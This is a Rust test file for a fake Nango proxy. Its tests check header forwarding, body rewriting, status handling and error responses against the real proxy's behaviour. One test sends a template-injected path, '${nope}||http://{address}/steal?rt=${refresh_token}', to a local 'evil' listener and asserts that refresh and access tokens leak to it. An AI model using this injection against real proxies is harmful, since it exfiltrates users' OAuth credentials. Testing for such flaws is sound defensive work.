//! The fake Nango's proxy changes calls like the real one, with the same dangers.

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use reqwest::header::HeaderMap;
use reqwest::{Method, RequestBuilder, StatusCode};
use serde_json::{Value, json};
use tokio::io::AsyncReadExt;
use tokio::net::TcpListener;
use tokio::time::timeout;

use super::{code, configured};
use crate::eventually::TIMEOUT;
use crate::nango_contract::scenario::Scenario;

/// Starts a scenario with one connection. Returns it with the connection's id.
async fn connected() -> (Scenario, String) {
    let mut scenario = configured(|_| {}).await;
    let id = scenario
        .connect("github", "first", json!({ "tags": {} }))
        .await;
    (scenario, id)
}

/// Creates a call to Nango's proxy, as its API documents it.
fn proxied(scenario: &Scenario, id: &str, method: Method, path: &str) -> RequestBuilder {
    let url = format!("{}/proxy/{path}", scenario.sandbox.url());
    scenario
        .http
        .request(method, url)
        .bearer_auth(Scenario::KEY)
        .header("connection-id", id)
        .header("provider-config-key", "github")
}

/// Returns the request that the provider received.
async fn inspected(request: RequestBuilder) -> Value {
    let answer = request.send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK);
    answer.json().await.unwrap()
}

fn body(inspected: &Value) -> String {
    let body = inspected["body_base64"].as_str().unwrap();
    String::from_utf8(STANDARD.decode(body).unwrap()).unwrap()
}

/// Returns a response's status, headers, and body as JSON.
async fn answered(request: RequestBuilder) -> (StatusCode, HeaderMap, Value) {
    let answer = request.send().await.unwrap();
    let (status, headers) = (answer.status(), answer.headers().clone());
    (status, headers, answer.json().await.unwrap_or_default())
}

#[tokio::test]
async fn proxy_evaluates_templates_with_credentials_in_scope() {
    let (scenario, id) = connected().await;
    let get = |path: &str| proxied(&scenario, &id, Method::GET, path);
    let seen = inspected(get("inspect/$%7Bx%7D?q=${access_token}&c=connectionConfig")).await;
    let query = seen["query"].as_str().unwrap();
    assert!(query.starts_with("q=sandbox_access_"), "{query}");
    assert!(query.ends_with("&c=connection_config"), "{query}");
    // Encoded characters are not evaluated.
    assert_eq!(seen["path"], "/$%7Bx%7D");

    let evil = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = evil.local_addr().unwrap();
    let stealing = get(&format!(
        "inspect?q=${{nope}}||http://{address}/steal?rt=${{refresh_token}}"
    ));
    let sending = tokio::spawn(stealing.send());
    let accepted = timeout(TIMEOUT, evil.accept()).await;
    let (mut stream, _) = accepted.unwrap().unwrap();
    let mut head = vec![0; 4096];
    let count = stream.read(&mut head).await.unwrap();
    let head = String::from_utf8_lossy(&head[..count]).into_owned();
    assert!(head.starts_with("GET /steal?rt=sandbox_refresh_"), "{head}");
    assert!(
        head.contains("authorization: Bearer sandbox_access_"),
        "{head}"
    );
    sending.abort();
}

#[tokio::test]
async fn proxy_forwards_every_prefixed_header() {
    let (scenario, id) = connected().await;
    let request = proxied(&scenario, &id, Method::GET, "inspect")
        .header("x-not-prefixed", "1")
        .header("nango-proxy-host", "elsewhere.example")
        .header("nango-proxy-x-custom", "first")
        .header("nango-proxy-x-custom", "last");
    let headers = &inspected(request).await["headers"];
    assert_eq!(headers["host"], "elsewhere.example");
    assert_eq!(headers["x-custom"], "last");
    assert_eq!(headers["x-not-prefixed"], Value::Null);
    assert_eq!(headers["user-agent"], "axios/1.18.0");
}

#[tokio::test]
async fn proxy_rewrites_json_and_forms() {
    let (scenario, id) = connected().await;
    let send = async |kind: &str, sent: &str| {
        let request = proxied(&scenario, &id, Method::POST, "inspect")
            .header("content-type", kind)
            .header("nango-proxy-content-type", kind)
            .body(sent.to_owned());
        let seen = inspected(request).await;
        assert_eq!(seen["headers"]["content-type"], kind);
        body(&seen)
    };
    let json = "application/json";
    assert_eq!(
        send(json, r#"{"a": 1.0, "b": "\u00e9"}"#).await,
        r#"{"a":1,"b":"é"}"#
    );
    assert_eq!(send(json, "[1e5]").await, "[100000]");
    let form = "application/x-www-form-urlencoded";
    assert_eq!(send(form, "a=1&a=2").await, "a%5B%5D=1&a%5B%5D=2");
    assert_eq!(send("application/octet-stream", "{ }").await, "{ }");
    assert_eq!(send("no-known-type", "lost").await, "");

    let empty = proxied(&scenario, &id, Method::POST, "inspect")
        .header("content-type", json)
        .header("content-length", "0");
    assert_eq!(body(&inspected(empty).await), "{}");
    let primitive = proxied(&scenario, &id, Method::POST, "inspect")
        .header("content-type", json)
        .body("1");
    let (status, _, refused) = answered(primitive).await;
    assert_eq!(
        (status, code(&refused)),
        (StatusCode::BAD_REQUEST, "invalid_json")
    );
    let ignored = proxied(&scenario, &id, Method::GET, "inspect").body("lost");
    assert_eq!(body(&inspected(ignored).await), "");
}

#[tokio::test]
async fn proxy_keeps_forwarded_content_length() {
    let (scenario, id) = connected().await;
    let send = |length: &str| {
        proxied(&scenario, &id, Method::POST, "inspect")
            .header("content-type", "application/json")
            .header("nango-proxy-content-length", length)
            .body(r#"{"a": 1}"#)
    };
    assert_eq!(body(&inspected(send("3")).await), r#"{"a"#);
    let hangs = timeout(Duration::from_millis(500), send("8").send()).await;
    assert!(hangs.is_err(), "the provider waits for the eighth byte");
}

#[tokio::test]
async fn proxy_turns_successes_into_200_without_most_headers() {
    let (scenario, id) = connected().await;
    let get = |query: &str| proxied(&scenario, &id, Method::GET, &format!("answer?{query}"));
    let headers = "header=link:%20a&header=location:%20b&header=retry-after:%201&header=etag:%20%22own%22&body=x";
    let (status, seen, _) = answered(get(&format!("status=201&{headers}"))).await;
    assert_eq!(status, StatusCode::OK);
    for name in ["link", "location", "retry-after"] {
        assert!(!seen.contains_key(name), "{name}");
    }
    let own = "W/\"1-";
    assert!(
        seen["etag"].to_str().unwrap().starts_with(own),
        "{:?}",
        seen["etag"]
    );
    for name in ["strict-transport-security", "x-ratelimit-limit"] {
        assert!(seen.contains_key(name), "{name}");
    }
    for (query, expected) in [("status=202&chunked=1", 202), ("status=429", 429)] {
        let (status, seen, _) = answered(get(&format!("{query}&{headers}"))).await;
        assert_eq!(status, expected);
        assert_eq!(
            (&seen["link"], &seen["etag"]),
            (&"a".parse().unwrap(), &"\"own\"".parse().unwrap())
        );
    }
    let (status, seen, _) = answered(get(&format!("status=204&{headers}"))).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert!(!seen.contains_key("link"));
}

#[tokio::test]
async fn proxy_answers_its_own_errors_as_recorded() {
    let (scenario, id) = connected().await;
    let get = |id: &str| proxied(&scenario, id, Method::GET, "inspect");
    let (status, _, error) = answered(get("no-such-connection")).await;
    assert_eq!(
        (status, &error),
        (
            StatusCode::BAD_REQUEST,
            &json!({ "error": { "code": "server_error", "message": "Failed to get connection" } })
        )
    );
    let unknown = scenario
        .http
        .get(format!("{}/proxy/inspect", scenario.sandbox.url()))
        .bearer_auth(Scenario::KEY)
        .header("connection-id", &id)
        .header("provider-config-key", "nothing");
    let (status, _, error) = answered(unknown).await;
    assert_eq!(
        (status, code(&error)),
        (StatusCode::NOT_FOUND, "unknown_provider_config")
    );

    let named = json!({ "connection_id": id });
    scenario
        .call(Method::POST, "/sandbox/expire", Some(named))
        .await;
    scenario.faults(json!({ "refuse_refresh": true })).await;
    let (status, _, error) = answered(get(&id)).await;
    let message = error["error"]["message"].as_str().unwrap();
    assert_eq!(
        (status, code(&error)),
        (StatusCode::BAD_REQUEST, "server_error")
    );
    assert!(
        message.starts_with("Failed to get connection credentials: '"),
        "{message}"
    );
    let (status, _, error) = answered(get(&id)).await;
    assert_eq!(
        (status, code(&error)),
        (StatusCode::FAILED_DEPENDENCY, "connection_refresh_backoff")
    );

    let (status, _, error) = answered(proxied(&scenario, "x", Method::GET, "%ff")).await;
    assert_eq!(
        (status, code(&error)),
        (StatusCode::INTERNAL_SERVER_ERROR, "generic_error_support")
    );
}

#[tokio::test]
async fn proxy_reports_a_provider_that_does_not_answer() {
    let (scenario, id) = connected().await;
    let request = proxied(&scenario, &id, Method::GET, "answer?hang_up=1");
    let (status, _, error) = answered(request).await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert_eq!(
        error,
        json!({ "message": "socket hang up", "code": "ECONNRESET", "method": "get" })
    );
}

#[tokio::test]
async fn proxy_calls_with_api_keys_and_passwords() {
    let scenario = configured(|_| {}).await;
    for (integration, credentials) in [
        ("stripe", json!({ "type": "API_KEY", "apiKey": "sk_1" })),
        (
            "jira",
            json!({ "type": "BASIC", "username": "ada", "password": "secret" }),
        ),
    ] {
        let import = json!({
            "provider_config_key": integration,
            "connection_id": "imported",
            "credentials": credentials,
        });
        scenario
            .call(Method::POST, "/connections", Some(import))
            .await;
        let request = scenario
            .http
            .get(format!("{}/proxy/inspect", scenario.sandbox.url()))
            .bearer_auth(Scenario::KEY)
            .header("connection-id", "imported")
            .header("provider-config-key", integration);
        assert_eq!(inspected(request).await["caller"], "key", "{integration}");
    }
}
